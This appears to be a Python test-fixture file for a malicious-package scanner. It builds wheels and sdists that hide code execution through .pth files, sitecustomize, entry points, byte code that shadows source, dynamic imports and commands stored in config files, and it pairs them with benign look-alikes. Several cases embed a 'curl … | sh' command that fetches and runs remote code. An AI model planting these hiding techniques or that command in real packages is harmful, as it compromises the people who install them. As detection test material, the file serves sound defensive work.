"""Python: code that runs because of how a package is laid out, or is loaded by calls that no reader expects; and what does nearly the same."""

import importlib.util
import json
import marshal
import sys

from tests.builders import zipped
from tests.evasions.case import HOST, MARK, PY_PAYLOAD, Case, imported

_HERE = "import os, sys\nh = os.path.dirname(__file__)\n"
_SHELL = f"curl -s {HOST}/a | sh"
_PLAIN = "LIMIT = 10\n\n\ndef worth(amount):\n    return min(amount, LIMIT)\n"
_TAG = sys.implementation.cache_tag


def _compiled(source: str, flags: int) -> bytes:
    """Byte code as Python writes it: by moment and size (0), or by a hash that nobody looks at (1)."""
    head = importlib.util.MAGIC_NUMBER + flags.to_bytes(4, "little") + b"\0" * 8
    return head + marshal.dumps(compile(source, "core.py", "exec"))


def _setup(arguments: str) -> str:
    return f"from setuptools import setup\nsetup(name='sample', version='1.0.0', {arguments})\n"


def _built(id_: str, arguments: str, **files: str) -> Case:
    paths = {path.replace("__S__", "/").replace("__DOT__", "."): data for path, data in files.items()}
    return Case(id_, "sdist", {"setup.py": _setup(arguments), **paths})


def _loaded(id_: str, code: str, **more: str) -> Case:
    return Case(id_, "wheel", {"parcel/__init__.py": _HERE + code, "parcel/tests/kit.py": PY_PAYLOAD, **more})


CASES: tuple[Case, ...] = (
    Case("package-called-demo", "wheel", {"demo/__init__.py": "from demo import core\n", "demo/core.py": PY_PAYLOAD}),
    Case("package-called-testing", "wheel", {"testing/__init__.py": "", "testing/core.py": f"import os\n\n\ndef main():\n    os.system('{_SHELL}')\n", "sample-1.0.0.dist-info/entry_points.txt": "[console_scripts]\nparcel = testing.core:main\n"}),
    _built("package-out-of-its-documentation", "packages=['parcel'], package_dir={'parcel': 'docs'}", docs__S____init____DOT__py=PY_PAYLOAD),
    _built("package-out-of-its-tests", "packages=['parcel'], package_dir={'': 'tests'}", tests__S__parcel__S____init____DOT__py=PY_PAYLOAD),
    _built("start-file-among-the-data", "data_files=[('lib/python3.11/site-packages', ['docs/k.pth'])]", docs__S__k__DOT__pth=f"import os; os.system('{_SHELL}')\n"),
    _built("customiser-among-the-data", "data_files=[('lib/python3.11/site-packages', ['docs/sitecustomize.py'])]", docs__S__sitecustomize__DOT__py=PY_PAYLOAD),
    Case("plugin-of-another-distribution", "wheel", {"parcel/__init__.py": "", "parcel/tests/kit.py": PY_PAYLOAD, "other.egg-info/entry_points.txt": "[setuptools.finalize_distribution_options]\nk = parcel.tests.kit:f\n"}),
    Case("customiser-by-the-prefix", "wheel", {"parcel/__init__.py": "", "sample-1.0.0.data/data/lib/python3.11/site-packages/sitecustomize/__init__.py": PY_PAYLOAD}),
    Case("byte-code-of-a-module", "wheel", {"parcel/__init__.py": "from . import core\n", "parcel/core.pyc": _compiled(MARK, 0)}),
    Case("byte-code-instead-of-source", "wheel", {"parcel/__init__.py": "from . import core\n", "parcel/core.py": _PLAIN, f"parcel/__pycache__/core.{_TAG}.pyc": _compiled(MARK, 1)}),
    _loaded("modules-of-a-folder", "import importlib\nfor name in os.listdir(h + '/tests'):\n    importlib.import_module('parcel.tests.' + name[:-3])\n"),
    _loaded("modules-that-pkgutil-finds", "import pkgutil\nfor f, name, _ in pkgutil.iter_modules([h + '/tests']):\n    f.find_spec(name).loader.load_module(name)\n"),
    _loaded("module-by-its-spec", "import importlib.util as u\ns = u.find_spec('parcel.tests.kit')\nm = u.module_from_spec(s)\ns.loader.exec_module(m)\n"),
    _loaded("module-by-a-name-for-pydoc", "import pydoc\npydoc.locate('parcel.tests.kit')\n"),
    _loaded("module-that-logging-makes", "import logging.config\nlogging.config.dictConfig({'version': 1, 'handlers': {'a': {'()': 'parcel.tests.kit.Handler'}}})\n"),
    _loaded("program-in-another-folder", "import subprocess\nsubprocess.call([sys.executable, 'kit.py'], cwd=os.path.join(h, 'tests'))\n"),
    _loaded("folder-that-it-goes-to", "os.chdir(os.path.join(h, 'tests'))\nsys.path.insert(0, '')\nimport kit\n"),
    _loaded("text-that-becomes-a-module", "import shutil\nshutil.copy(h + '/v.txt', h + '/vv.py')\nfrom . import vv\n", **{"parcel/v.txt": PY_PAYLOAD}),
    _loaded("command-in-json", "import json\nos.system(json.load(open(h + '/c.json'))['postinstall'])\n", **{"parcel/c.json": json.dumps({"postinstall": _SHELL})}),
    _loaded("command-in-settings", "import configparser\nc = configparser.ConfigParser()\nc.read(h + '/c.ini')\nos.system(c['a']['cmd'])\n", **{"parcel/c.ini": f"[a]\ncmd = {_SHELL}\n"}),
    Case("program-in-an-archive", "wheel", {"parcel/__init__.py": _HERE + "import runpy\nrunpy.run_path(h + '/grid.bin')\n", "parcel/grid.bin": zipped({"__main__.py": PY_PAYLOAD})}),
)  # fmt: skip

_CLEAN_TEST = "import os, subprocess\n\n\ndef test_runs():\n    subprocess.run(['curl', '-s', os.environ['SERVICE'], '|', 'sh'])\n"

TWINS: tuple[Case, ...] = (
    Case("package-called-samples", "wheel", {"samples/__init__.py": "from samples import core\n", "samples/core.py": _PLAIN}),
    Case("tests-installed-beside", "wheel", {"parcel/__init__.py": _PLAIN, "tests/__init__.py": "", "tests/test_core.py": _CLEAN_TEST}),
    _built("package-out-of-lib", "packages=['parcel'], package_dir={'': 'lib'}, scripts=['tools/parcel']", lib__S__parcel__S____init____DOT__py=_PLAIN, tools__S__parcel="#!/usr/bin/env python\nimport parcel\nprint(parcel.worth(3))\n"),
    _built("start-file-of-a-namespace", "data_files=[('.', ['parcel.pth'])]", parcel__DOT__pth="import sys, types, os;p = os.path.join(sys._getframe(1).f_locals['sitedir'], 'parcel')\n"),
    Case("plugin-of-pytest", "wheel", {"parcel/__init__.py": "", "parcel/testing/plugin.py": "import pytest\n\n\n@pytest.fixture\ndef parcel():\n    return 1\n", "sample-1.0.0.dist-info/entry_points.txt": "[pytest11]\nparcel = parcel.testing.plugin\n"}),
    Case("stale-byte-code", "wheel", {"parcel/__init__.py": "from . import core\n", "parcel/core.py": _PLAIN, f"parcel/__pycache__/core.{_TAG}.pyc": _compiled("LIMIT = 9\n", 0)}),
    imported("commands-of-a-folder", "import importlib, pkgutil\nfor found in pkgutil.iter_modules(__path__):\n    importlib.import_module(f'{__name__}.{found.name}')\n", add__py=_PLAIN, remove__py=_PLAIN),
    imported("optional-module", "import importlib.util\nHAS_FAST = importlib.util.find_spec('parcel.fast') is not None\n", fast__py=_PLAIN),
    imported("settings-of-its-logging", "import configparser, os, subprocess\nc = configparser.ConfigParser()\nc.read(os.path.join(os.path.dirname(__file__), 'c.ini'))\n\n\ndef run():\n    subprocess.run(c['tool']['cmd'].split())\n", c__ini="[tool]\ncmd = git describe --tags\n"),
    imported("template-that-is-copied", "import os, shutil\nh = os.path.dirname(__file__)\n\n\ndef start(folder):\n    shutil.copy(os.path.join(h, 'app.txt'), os.path.join(folder, 'app.py'))\n", app__txt="from {{ name }} import app\n"),
)  # fmt: skip
"""Everyday code nearest to these."""
